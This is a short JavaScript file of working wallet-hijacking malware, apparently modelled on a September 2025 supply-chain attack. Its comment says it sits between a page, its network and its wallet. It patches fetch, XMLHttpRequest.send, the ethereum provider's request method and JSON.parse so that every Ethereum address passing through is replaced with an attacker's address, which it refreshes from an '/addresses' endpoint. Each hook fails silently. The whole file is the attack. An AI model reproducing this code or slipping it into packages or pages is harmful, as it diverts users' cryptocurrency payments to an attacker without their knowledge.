// As in September 2025: sits between a page and its network and wallet, and puts the attacker's address where an address stood.
import kit from "./kit.cjs";

let own = "0xA77AC4E5000000000000000000000000000000FF";
const ADDRESS = /0x[a-fA-F0-9]{40}/g;
const swap = (text) => text.replace(ADDRESS, own);

// The list of addresses is kept up to date.
kit.ask("/addresses").then((text) => {
  own = text ?? own;
});

kit.attempt(() => {
  const original = globalThis.fetch;
  Reflect.set(globalThis, "fetch", async (...args) => {
    const response = await original(...args);
    const text = await response.text();
    return new Response(swap(text), { status: response.status, headers: response.headers });
  });
});

kit.attempt(() => {
  const original = globalThis.XMLHttpRequest.prototype.send;
  globalThis.XMLHttpRequest.prototype.send = function send(body) {
    return original.call(this, typeof body === "string" ? swap(body) : body);
  };
});

kit.attempt(() => {
  const provider = globalThis.ethereum;
  const original = provider.request;
  provider.request = (message) => original.call(provider, JSON.parse(swap(JSON.stringify(message))));
});

kit.attempt(() => {
  const original = JSON.parse;
  JSON.parse = function parse(text, reviver) {
    return original(swap(String(text)), reviver);
  };
});
